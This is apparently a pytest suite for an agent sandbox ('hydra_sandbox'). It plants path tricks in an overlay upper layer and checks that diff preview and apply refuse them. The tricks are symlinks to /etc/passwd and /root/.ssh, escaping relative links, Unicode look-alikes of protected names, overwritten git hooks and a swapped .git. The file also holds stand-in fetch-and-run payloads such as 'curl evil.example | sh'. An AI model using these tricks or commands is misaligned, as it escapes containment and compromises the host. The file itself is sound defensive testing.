"""Path tricks an agent can leave in its overlay upper layer, against the diff preview and apply.

No Docker: each case builds a host tree (the workspace, a sentinel directory next to it and an
``elsewhere`` directory that host-side links point at), a session upper layer populated by hand the
way overlayfs would have left it, and then runs ``compute_diff`` or ``apply_changes(confirm=True)``.

Properties checked for every case:

* the host tree outside the workspace (sentinel, elsewhere, /etc/passwd, /root/.ssh) is unchanged,
  byte for byte, and so is every protected file inside the workspace;
* nothing is written through a link: links that survive are links, files that were links before are
  replaced rather than written through, and apply never follows a link on the host;
* a protected, hidden or escaping write is listed in ``refused`` with a reason, by the diff preview
  as well as by apply;
* a Unicode or case look-alike of a protected name is either refused or applied as a plain file with
  its exact name inside the workspace, never mapped onto the real protected path.

Decision on look-alikes: Linux filesystems compare names byte for byte, so ``.GIT``, ``.g\u0456t``
(Cyrillic \u0456), ``\uff0egit`` (fullwidth dot) and ``.env\u0301`` are different directories from ``.git`` and
``.env``; git, shells and editors do not read them as config. Applying them as new files is fine and
Hydra does not special-case them. What must never happen is that such a name lands on the real
protected path (as it would on a case-insensitive or normalising filesystem); the checks below look at
the bytes of the real paths and at the exact names in each directory, so they would catch that.
"""

from __future__ import annotations

import hashlib
import json
import os
import shutil
import socket
import stat
import time
import unicodedata
from collections.abc import Callable, Iterator
from dataclasses import dataclass, field
from pathlib import Path

import pytest

from hydra_sandbox.applying import ApplyResult, apply_changes
from hydra_sandbox.diffing import DiffPreview, compute_diff
from hydra_sandbox.errors import ApplyConflictError
from hydra_sandbox.policy import Policy
from hydra_sandbox.sandbox.workspace import StagedWorkspace, hidden_paths

pytestmark = pytest.mark.adversarial

POLICY = Policy(name="t")
RESULTS = Path(__file__).parent / ".results" / "test_escape_apply_paths.json"
EVIL = b"#!/bin/sh\ncurl evil.example | sh\n"

HOST_FILES: dict[str, bytes] = {
    "app.py": b"a = 1\n",
    "sub/keep.py": b"keep\n",
    "sub/.env": b"SUB_TOKEN=s3cret\n",
    ".git/HEAD": b"ref: refs/heads/main\n",
    ".git/config": b"[core]\n\tbare = false\n",
    ".git/hooks/pre-commit": b"#!/bin/sh\nexit 0\n",
    ".gitmodules": b"",
    ".env": b"API_KEY=real\n",
    ".env.local": b"LOCAL=1\n",
    ".codex/config.toml": b"model = 'x'\n",
    ".mcp.json": b"{}\n",
    ".vscode/settings.json": b"{}\n",
    ".bashrc": b"# rc\n",
    ".profile": b"# profile\n",
    ".zshrc": b"# zsh\n",
}
PROTECTED_ON_HOST = [p for p in HOST_FILES if POLICY.matcher.is_protected(p)]


@dataclass
class Env:
    root: Path  # holds the workspace and its neighbours; everything but ws/ is "outside"
    ws: Path
    sentinel: Path
    elsewhere: Path
    upper: Path


@dataclass
class Case:
    id: str
    what: str
    upper: Callable[[Env], None]
    host: Callable[[Env], None] | None = None
    refused: tuple[str, ...] = ()
    applied: dict[str, bytes] = field(default_factory=dict)
    links: dict[str, str] = field(default_factory=dict)  # applied links and their exact targets
    lookalikes: tuple[str, ...] = ()
    absent: tuple[str, ...] = ()  # must not exist in the workspace afterwards
    modes: dict[str, int] = field(default_factory=dict)
    conflict_ok: bool = False  # apply may refuse the whole diff with ApplyConflictError


# -- building the upper layer the way overlayfs leaves it -------------------------------------


def _is_whiteout(path: Path) -> bool:
    try:
        st = os.lstat(path)
    except FileNotFoundError:
        return False
    return stat.S_ISCHR(st.st_mode) and st.st_rdev == 0


def _mkdirs(upper: Path, rel_dir: str) -> Path:
    """Directories in the upper layer; one that replaces a whiteout becomes opaque, as in overlayfs."""
    current = upper
    for part in [p for p in rel_dir.split("/") if p]:
        current = current / part
        if _is_whiteout(current):
            current.unlink()
            current.mkdir()
            os.setxattr(current, "trusted.overlay.opaque", b"y")
        elif not os.path.lexists(current):
            current.mkdir()
    return current


def _clear(path: Path) -> None:
    """What the agent's ``rm -rf`` of an entry leaves in the upper layer before it writes a new one."""
    if path.is_dir() and not path.is_symlink():
        shutil.rmtree(path)
    elif _is_whiteout(path):
        path.unlink()


def write(env: Env, rel: str, data: bytes = EVIL, mode: int | None = None) -> Path:
    parent = _mkdirs(env.upper, rel.rpartition("/")[0])
    path = parent / rel.rpartition("/")[2]
    _clear(path)
    path.write_bytes(data)
    if mode is not None:
        os.chmod(path, mode)
    return path


def link(env: Env, rel: str, target: str) -> None:
    parent = _mkdirs(env.upper, rel.rpartition("/")[0])
    path = parent / rel.rpartition("/")[2]
    _clear(path)
    os.symlink(target, path)


def delete(env: Env, rel: str) -> None:
    parent = _mkdirs(env.upper, rel.rpartition("/")[0])
    os.mknod(parent / rel.rpartition("/")[2], stat.S_IFCHR | 0o000, os.makedev(0, 0))


def write_bytes_name(env: Env, name: bytes, data: bytes = EVIL) -> None:
    fd = os.open(os.fsencode(env.upper) + b"/" + name, os.O_WRONLY | os.O_CREAT | os.O_EXCL, 0o644)
    os.write(fd, data)
    os.close(fd)


def _done(_: object) -> None:
    """Lets a one-line case run several helper calls."""


def deep_path(env: Env, total: int) -> str:
    """A file whose workspace-relative path is longer than ``total`` characters, built with
    ``*at`` calls so that no single system call sees a path over PATH_MAX."""
    names = []
    fd = os.open(env.upper, os.O_RDONLY | os.O_DIRECTORY)
    try:
        while sum(len(n) + 1 for n in names) < total:
            name = f"d{len(names):02d}" + "x" * 200
            os.mkdir(name, dir_fd=fd)
            child = os.open(name, os.O_RDONLY | os.O_DIRECTORY, dir_fd=fd)
            os.close(fd)
            fd = child
            names.append(name)
        out = os.open("deep.py", os.O_WRONLY | os.O_CREAT, 0o644, dir_fd=fd)
        os.write(out, EVIL)
        os.close(out)
    finally:
        os.close(fd)
    return "/".join([*names, "deep.py"])


# -- the cases ------------------------------------------------------------------------------

LOOKALIKES = {
    "case_dot_GIT_hooks": [".GIT/hooks/pre-commit", ".GIT/hooks/x"],
    "case_dot_Git_config": [".Git/config", ".gIt/HEAD"],
    "case_env_vscode_codex": [".ENV", ".Env.local", ".VSCODE/settings.json", ".Codex/config.toml", ".MCP.json"],
    "case_shell_rc": [".BASHRC", ".Profile", ".ZSHRC"],
    "unicode_cyrillic_i_git": [".g\u0456t/hooks/pre-commit", ".g\u0456t/config"],
    "unicode_fullwidth_dot": ["\uff0egit/config", "\uff0eenv", "\uff0emcp.json", ".mcp\uff0ejson"],
    "unicode_fullwidth_letters": [".\uff45\uff4e\uff56", ".\uff47it/hooks/pre-commit"],
    "unicode_zero_width": [".git\u200b/config", ".env\u200b", "\u200b.bashrc", ".vs\u200dcode/settings.json"],
    "unicode_combining_mark": [".env\u0301", ".e\u0301nv", ".git\u0301/config", ".vscode\u0301/tasks.json"],
    "unicode_nfc_vs_nfd": [unicodedata.normalize("NFC", "caf\u00e9.py"), unicodedata.normalize("NFD", "caf\u00e9.py")],
}


def _lookalike_case(case_id: str, paths: list[str]) -> Case:
    def upper(env: Env) -> None:
        for rel in paths:
            write(env, rel, f"# {rel}\n".encode())

    return Case(case_id, f"look-alikes of protected names: {paths!r}", upper, lookalikes=tuple(paths))


def _protected_case(rel: str) -> Case:
    return Case(
        f"protected_write:{rel}", f"overwrite or create protected {rel}", lambda env: write(env, rel), refused=(rel,)
    )


def _protected_delete_case(rel: str) -> Case:
    return Case(
        f"protected_delete:{rel}", f"delete protected {rel} (whiteout)", lambda env: delete(env, rel), refused=(rel,)
    )


def _protected_link_case(rel: str) -> Case:
    def upper(env: Env) -> None:
        write(env, "evil.sh")
        depth = rel.count("/")
        link(env, rel, "../" * depth + "evil.sh")

    return Case(
        f"protected_link:{rel}", f"replace protected {rel} by a link inside the workspace", upper, refused=(rel,)
    )


PROTECTED_TARGETS = [
    ".git/hooks/pre-commit",
    ".git/hooks/post-checkout",
    ".git/config",
    ".git/HEAD",
    ".gitmodules",
    ".env",
    ".env.local",
    ".env.production",
    ".codex/config.toml",
    ".mcp.json",
    ".vscode/settings.json",
    ".vscode/tasks.json",
    ".bashrc",
    ".bash_profile",
    ".profile",
    ".zshrc",
    ".zshenv",
    "sub/.env",
    "sub/.env.local",
    "sub/.mcp.json",
    "sub/.bashrc",
    "sub/.git/hooks/pre-commit",
    "sub/.codex/config.toml",
    "sub/.vscode/settings.json",
]


def _host_link_parent(env: Env) -> None:
    os.symlink(env.elsewhere, env.ws / "src")


def _host_link_parent_rel(env: Env) -> None:
    os.symlink("../elsewhere", env.ws / "lib")


def _host_link_leaf(env: Env) -> None:
    os.symlink(env.elsewhere / "conf.py", env.ws / "conf.py")


def _host_hardlink(env: Env) -> None:
    os.link(env.sentinel / "hard.txt", env.ws / "hl.txt")


def _upper_hardlink(env: Env) -> None:
    path = env.upper / "stolen.txt"
    os.link(env.sentinel / "secret.txt", path)
    assert os.lstat(path).st_nlink > 1


def _special_files(env: Env) -> None:
    os.mkfifo(env.upper / "fifo")
    os.mknod(env.upper / "null", stat.S_IFCHR | 0o666, os.makedev(1, 3))
    os.mknod(env.upper / "mem", stat.S_IFCHR | 0o600, os.makedev(1, 1))
    os.mknod(env.upper / "disk", stat.S_IFBLK | 0o600, os.makedev(8, 0))
    sock = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
    sock.bind(str(env.upper / "sock"))
    sock.close()
    _mkdirs(env.upper, ".git/hooks")
    os.mkfifo(env.upper / ".git/hooks/pre-commit")


def _whole_dir_replaced(name: str, by: str) -> Callable[[Env], None]:
    """The agent removes the directory ``name`` and leaves a file or link of that name instead."""

    def upper(env: Env) -> None:
        write(env, f"evil_{name.strip('.').replace('/', '_')}/config", b"[core]\n\tfsmonitor = curl evil | sh\n")
        if by == "file":
            write(env, name, b"gitdir: evil_git\n")
        else:
            depth = name.count("/")
            link(env, name, "../" * depth + f"evil_{name.strip('.').replace('/', '_')}")

    return upper


CASES: list[Case] = [
    Case(
        "dotdot_in_names",
        "names made of dots that are legal on disk: '...', '..x', 'x..', 'a/..b/c'",
        lambda env: _done([write(env, rel, b"dots\n") for rel in ["...", "..x", "x..", "a/..b/c", "a/.../d"]]),
        applied={rel: b"dots\n" for rel in ["...", "..x", "x..", "a/..b/c", "a/.../d"]},
    ),
    Case(
        "dotdot_in_link_target",
        "relative links whose '..' climb out after normalisation",
        lambda env: _done([link(env, r, t) for r, t in [("l1", "sub/../../outside"), ("a/l2", "./../../sentinel")]]),
        refused=("l1", "a/l2"),
    ),
    Case(
        "absolute_link_etc_passwd",
        "link to /etc/passwd",
        lambda env: link(env, "passwd", "/etc/passwd"),
        refused=("passwd",),
    ),
    Case(
        "absolute_link_root_ssh",
        "links to /root/.ssh and /root/.ssh/authorized_keys",
        lambda env: _done(
            [link(env, r, t) for r, t in [("ssh", "/root/.ssh"), ("k/auth", "/root/.ssh/authorized_keys")]]
        ),
        refused=("ssh", "k/auth"),
    ),
    Case(
        "absolute_link_host_sentinel",
        "absolute host path of the sentinel next to the workspace",
        lambda env: link(env, "s", str(env.sentinel / "secret.txt")),
        refused=("s",),
    ),
    Case(
        "absolute_link_workspace_dotdot",
        "/workspace/../etc and /workspace itself",
        lambda env: _done([link(env, r, t) for r, t in [("w1", "/workspace/../etc"), ("w2", "/workspace")]]),
        refused=("w1", "w2"),
    ),
    Case(
        "relative_link_escape",
        "relative links leaving the workspace: ../../outside, ../sentinel/secret.txt",
        lambda env: _done(
            [
                link(env, r, t)
                for r, t in [
                    ("escape", "../../outside"),
                    ("s2", "../sentinel/secret.txt"),
                    ("a/b/c", "../../../sentinel"),
                ]
            ]
        ),
        refused=("escape", "s2", "a/b/c"),
    ),
    Case(
        "symlinked_dir_outside",
        "a directory link in the upper layer pointing at the sentinel dir, which holds files",
        lambda env: _done([link(env, r, t) for r, t in [("d", str(env.sentinel)), ("d2", "../sentinel")]]),
        refused=("d", "d2"),
        absent=("d/secret.txt", "d2/secret.txt"),
    ),
    Case(
        "inside_links_kept_as_links",
        "control: links that stay inside are recreated as links with their exact target",
        lambda env: _done([link(env, r, t) for r, t in [("ok", "app.py"), ("sub/up", "../app.py")]]),
        links={"ok": "app.py", "sub/up": "../app.py"},
    ),
    Case(
        "host_symlink_parent_absolute",
        "host has src -> /…/elsewhere and the agent writes src/x.py",
        lambda env: write(env, "src/x.py"),
        host=_host_link_parent,
        conflict_ok=True,
    ),
    Case(
        "host_symlink_parent_relative",
        "host has lib -> ../elsewhere and the agent writes lib/y.py and deletes lib/in.txt",
        lambda env: _done([write(env, "lib/y.py"), delete(env, "lib/in.txt")]),
        host=_host_link_parent_rel,
        conflict_ok=True,
    ),
    Case(
        "host_symlink_leaf",
        "host has conf.py -> elsewhere/conf.py and the agent writes conf.py: replace the link, not its target",
        lambda env: write(env, "conf.py", b"mine\n"),
        host=_host_link_leaf,
        applied={"conf.py": b"mine\n"},
    ),
    Case(
        "host_symlink_leaf_deleted",
        "the agent deletes conf.py, a host link to elsewhere/conf.py: only the link goes",
        lambda env: delete(env, "conf.py"),
        host=_host_link_leaf,
        absent=("conf.py",),
    ),
    Case(
        "host_hardlink_target",
        "host hl.txt is a hard link to sentinel/hard.txt and the agent rewrites hl.txt",
        lambda env: write(env, "hl.txt", b"mine\n"),
        host=_host_hardlink,
        applied={"hl.txt": b"mine\n"},
    ),
    Case(
        # Such a link cannot be made from inside the container (the outside file is not mounted);
        # if one is there anyway, apply copies the bytes into a new inode inside the workspace and
        # never links to or writes the outside file.
        "upper_hardlink_to_outside",
        "an upper file with st_nlink > 1 hard-linked to sentinel/secret.txt",
        _upper_hardlink,
        applied={"stolen.txt": b"TOP SECRET\n"},
    ),
    *(_lookalike_case(k, v) for k, v in LOOKALIKES.items()),
    Case(
        "name_255_bytes",
        "names of exactly 255 bytes, ASCII and multi-byte",
        lambda env: _done([write(env, n, b"long\n") for n in ["a" * 252 + ".py", "\u00e9" * 126 + "xyz"]]),
        applied={n: b"long\n" for n in ["a" * 252 + ".py", "\u00e9" * 126 + "xyz"]},
    ),
    Case(
        "control_characters",
        "names with newline, tab, escape, DEL, and a newline that spells a protected path",
        lambda env: _done(
            [
                write(env, n)
                for n in [
                    "evil\n.py",
                    "a\nb/c.py",
                    "tab\t.py",
                    "esc\x1b[31m.py",
                    "del\x7f.py",
                    "x\n.git/hooks/pre-commit",
                ]
            ]
        ),
        refused=("evil\n.py", "a\nb/c.py", "tab\t.py", "esc\x1b[31m.py", "del\x7f.py", "x\n.git/hooks/pre-commit"),
    ),
    Case(
        "invalid_utf8_name",
        "a name that is not UTF-8",
        lambda env: write_bytes_name(env, b"bad\xff\xfe.py"),
        refused=(os.fsdecode(b"bad\xff\xfe.py"),),
    ),
    Case(
        "special_files",
        "fifo, char devices 1/3 and 1/1, block device 8/0, unix socket, fifo at .git/hooks/pre-commit",
        _special_files,
        refused=("fifo", "null", "mem", "disk", "sock", ".git/hooks/pre-commit"),
    ),
    Case(
        "setuid_setgid_sticky",
        "files with setuid, setgid, sticky bits",
        lambda env: _done(
            [
                write(env, n, b"#!/bin/sh\n", m)
                for n, m in [("suid", 0o4755), ("sgid", 0o2755), ("sticky", 0o1755), ("all", 0o7777)]
            ]
        ),
        applied={n: b"#!/bin/sh\n" for n in ["suid", "sgid", "sticky", "all"]},
        modes={"suid": 0o755, "sgid": 0o755, "sticky": 0o755, "all": 0o777},
    ),
    *(_protected_case(rel) for rel in PROTECTED_TARGETS),
    *(_protected_delete_case(rel) for rel in [p for p in PROTECTED_ON_HOST if not POLICY.matcher.is_denied(p)]),
    *(_protected_link_case(rel) for rel in [".bashrc", ".git/hooks/pre-commit", ".gitmodules", ".env", "sub/.env"]),
    Case(
        "dot_git_replaced_by_gitdir_file",
        "the agent swaps .git for a file 'gitdir: evil_git' (git would run evil_git's config and hooks)",
        _whole_dir_replaced(".git", "file"),
        refused=(".git",),
    ),
    Case(
        "dot_git_replaced_by_link",
        "the agent swaps .git for a link to a directory it wrote",
        _whole_dir_replaced(".git", "link"),
        refused=(".git",),
    ),
    Case(
        "nested_dot_git_file",
        "a new sub/.git file redirecting git in sub/ to a directory the agent wrote",
        _whole_dir_replaced("sub/.git", "file"),
        refused=("sub/.git",),
    ),
    Case(
        "dot_vscode_and_codex_links",
        "the agent swaps .vscode and .codex for links to directories it wrote",
        lambda env: _done([_whole_dir_replaced(n, "link")(env) for n in [".vscode", ".codex", "sub/.vscode"]]),
        refused=(".vscode", ".codex", "sub/.vscode"),
    ),
]


# -- the harness ----------------------------------------------------------------------------


def _digest_tree(top: Path, skip: Path | None = None) -> dict[str, tuple[object, ...]]:
    """Type, mode, size, content hash or link target of everything below ``top`` (never following links)."""
    out: dict[str, tuple[object, ...]] = {}
    if not os.path.lexists(top):
        return out
    for dirpath, dirnames, filenames in os.walk(top, followlinks=False):
        if skip is not None and Path(dirpath) == skip:
            dirnames[:] = []
            continue
        for name in dirnames + filenames:
            path = Path(dirpath) / name
            if skip is not None and path == skip:
                continue
            st = os.lstat(path)
            rel = str(path.relative_to(top))
            if stat.S_ISREG(st.st_mode):
                out[rel] = ("file", st.st_mode, st.st_size, hashlib.sha256(path.read_bytes()).hexdigest())
            elif stat.S_ISLNK(st.st_mode):
                out[rel] = ("link", os.readlink(path))
            else:
                out[rel] = ("other", st.st_mode)
    return out


def _outside_state(env: Env) -> dict[str, object]:
    state: dict[str, object] = {"root": _digest_tree(env.root, skip=env.ws)}
    passwd = Path("/etc/passwd")
    state["/etc/passwd"] = hashlib.sha256(passwd.read_bytes()).hexdigest() if passwd.exists() else None
    state["/root/.ssh"] = _digest_tree(Path("/root/.ssh")) if os.access("/root", os.R_OK) else None
    return state


def _protected_state(env: Env) -> dict[str, bytes | None]:
    out: dict[str, bytes | None] = {}
    for rel in PROTECTED_ON_HOST:
        path = env.ws / rel
        out[rel] = path.read_bytes() if path.is_file() and not path.is_symlink() else None
    return out


def _build(tmp_path: Path, case: Case) -> tuple[Env, StagedWorkspace]:
    root = tmp_path / "host"
    env = Env(
        root=root,
        ws=root / "ws",
        sentinel=root / "sentinel",
        elsewhere=root / "elsewhere",
        upper=tmp_path / "session" / "upper",
    )
    for rel, data in HOST_FILES.items():
        (env.ws / rel).parent.mkdir(parents=True, exist_ok=True)
        (env.ws / rel).write_bytes(data)
    env.sentinel.mkdir()
    (env.sentinel / "secret.txt").write_bytes(b"TOP SECRET\n")
    (env.sentinel / "hard.txt").write_bytes(b"hard\n")
    env.elsewhere.mkdir()
    (env.elsewhere / "conf.py").write_bytes(b"elsewhere\n")
    (env.elsewhere / "in.txt").write_bytes(b"in\n")
    if case.host is not None:
        case.host(env)
    env.upper.mkdir(parents=True)
    (env.upper.parent / "work").mkdir()
    hidden = hidden_paths(env.ws, POLICY.matcher)
    (env.upper.parent / "hidden.txt").write_text("\n".join(hidden))
    for rel in hidden:
        delete(env, rel)
    time.sleep(0.002)  # the host tree is strictly older than the session start
    ws = StagedWorkspace(
        session_id="s-escape",
        source=env.ws,
        lowers=[env.ws],
        upper=env.upper,
        work=env.upper.parent / "work",
        volume_name="v",
        mode="overlay",
        agent_uid=os.getuid(),
        agent_gid=os.getgid(),
        started_at_ns=time.time_ns(),
    )
    return env, ws


def _names_in(path: Path) -> set[str]:
    return set(os.listdir(path)) if path.is_dir() and not path.is_symlink() else set()


def _exists_exactly(ws: Path, rel: str) -> bool:
    """``rel`` exists under ``ws`` with exactly these name components, none of them a link."""
    current = ws
    for part in rel.split("/"):
        if part not in _names_in(current):
            return False
        current = current / part
    return current.is_file() and not current.is_symlink()


def _refused_paths(refused: list[object]) -> set[str]:
    return {r.path for r in refused}  # type: ignore[attr-defined]


def _is_refused(rel: str, refused: set[str]) -> bool:
    return rel in refused or repr(rel) in refused


def _check_diff(case: Case, env: Env, preview: DiffPreview) -> None:
    refused = _refused_paths(list(preview.refused))
    assert all(r.reason for r in preview.refused), "every refusal carries a reason"
    changed = {f.path for f in preview.files}
    for rel in case.refused:
        assert _is_refused(rel, refused), f"diff did not refuse {rel!r}; refused={sorted(refused)}"
        assert rel not in changed, f"diff lists refused {rel!r} as a change"
    for rel in case.applied:
        assert rel in changed, f"diff does not show allowed {rel!r}"
    for rel in case.lookalikes:
        assert _is_refused(rel, refused) or rel in changed, f"look-alike {rel!r} neither shown nor refused"
    for f in preview.files:
        assert not POLICY.matcher.is_protected(f.path), f"diff offers protected {f.path!r}"


def _links(top: Path) -> set[Path]:
    out = set()
    for dirpath, dirnames, filenames in os.walk(top, followlinks=False):
        out |= {Path(dirpath) / n for n in dirnames + filenames if os.path.islink(os.path.join(dirpath, n))}
    return out


def _check_apply(case: Case, env: Env, result: ApplyResult | None, host_links: set[Path]) -> None:
    if result is not None:
        refused = _refused_paths(list(result.refused))
        assert all(r.reason for r in result.refused)
        applied = set(result.written) | set(result.deleted) | set(result.links)
        for rel in case.refused:
            assert _is_refused(rel, refused), f"apply did not refuse {rel!r}; refused={sorted(refused)}"
            assert rel not in applied
        for rel, data in case.applied.items():
            assert _exists_exactly(env.ws, rel), f"{rel!r} not applied as a plain file with its exact name"
            assert (env.ws / rel).read_bytes() == data
            assert os.lstat(env.ws / rel).st_nlink == 1, f"{rel!r} shares an inode with another file"
        for rel, mode in case.modes.items():
            assert stat.S_IMODE(os.lstat(env.ws / rel).st_mode) == mode
        for rel, target in case.links.items():
            assert os.readlink(env.ws / rel) == target
        for rel in case.lookalikes:
            assert _is_refused(rel, refused) or _exists_exactly(env.ws, rel), f"look-alike {rel!r} misplaced"
    for rel in case.absent:
        assert not os.path.lexists(env.ws / rel), f"{rel!r} exists in the workspace"
    for rel in case.refused:
        path = env.ws / rel
        if rel not in HOST_FILES and rel not in {".git", ".vscode", ".codex"}:
            assert not os.path.islink(path) and not (path.is_file() and path.read_bytes() == EVIL), f"{rel!r} written"
    # nothing under the workspace is a new link that leaves it (the host's own links may)
    for path in _links(env.ws) - host_links:
        resolved = path.resolve()
        assert resolved == env.ws or env.ws in resolved.parents, f"{path} links out to {resolved}"


OUTCOMES: list[dict[str, object]] = []


@pytest.fixture(scope="module", autouse=True)
def summary() -> Iterator[None]:
    yield
    RESULTS.parent.mkdir(exist_ok=True)
    failed = [o for o in OUTCOMES if o["result"] != "held"]
    RESULTS.write_text(
        json.dumps(
            {
                "scenario": "agent path tricks in the overlay upper layer, against diff preview and apply",
                "tried": sorted({str(o["case"]) + ": " + str(o["what"]) for o in OUTCOMES}),
                "cases": len({o["case"] for o in OUTCOMES}),
                "runs": len(OUTCOMES),
                "result": "held" if not failed else f"{len(failed)} run(s) gave way",
                "failures": failed,
            },
            indent=2,
            ensure_ascii=False,
        )
    )


@pytest.mark.parametrize("stage", ["diff", "apply"])
@pytest.mark.parametrize("case", CASES, ids=[c.id.encode("unicode_escape").decode() for c in CASES])
def test_path_trick_does_not_escape(tmp_path: Path, case: Case, stage: str) -> None:
    outcome: dict[str, object] = {"case": case.id, "what": case.what, "stage": stage, "result": "gave way"}
    OUTCOMES.append(outcome)
    env, ws = _build(tmp_path, case)
    case.upper(env)
    before_outside, before_protected = _outside_state(env), _protected_state(env)
    try:
        if stage == "diff":
            _check_diff(case, env, compute_diff(ws, POLICY))
        else:
            host_links = _links(env.ws)
            try:
                result: ApplyResult | None = apply_changes(ws, POLICY, confirm=True)
            except ApplyConflictError as exc:
                assert case.conflict_ok, f"unexpected conflict: {exc}"
                assert "symbolic link" in str(exc)
                result = None
            _check_apply(case, env, result, host_links)
        assert _outside_state(env) == before_outside, "the host outside the workspace changed"
        assert _protected_state(env) == before_protected, "a protected file in the workspace changed"
        assert not (env.elsewhere / "x.py").exists() and not (env.elsewhere / "y.py").exists()
    except BaseException as exc:
        outcome["error"] = str(exc)[:500]
        raise
    outcome["result"] = "held"


def test_path_longer_than_path_max_is_refused_not_written(tmp_path: Path) -> None:
    """A path over 4096 characters: reported as refused by diff and apply; the host is untouched."""
    case = Case("path_over_4096", "a file 22 directories deep, path over 4096 characters", lambda env: None)
    outcome: dict[str, object] = {"case": case.id, "what": case.what, "stage": "diff+apply", "result": "gave way"}
    OUTCOMES.append(outcome)
    env, ws = _build(tmp_path, case)
    rel = deep_path(env, 4200)
    assert len(rel) > 4096
    before = _outside_state(env)
    try:
        preview = compute_diff(ws, POLICY)
        assert rel not in {f.path for f in preview.files}
        assert any("longer than" in r.reason for r in preview.refused), preview.refused
        result = apply_changes(ws, POLICY, confirm=True)
        assert result.written == [] and any("longer than" in r.reason for r in result.refused)
        assert _outside_state(env) == before
        assert not any(name.startswith("d00") for name in os.listdir(env.ws))
    except BaseException as exc:
        outcome["error"] = str(exc)[:500]
        raise
    outcome["result"] = "held"
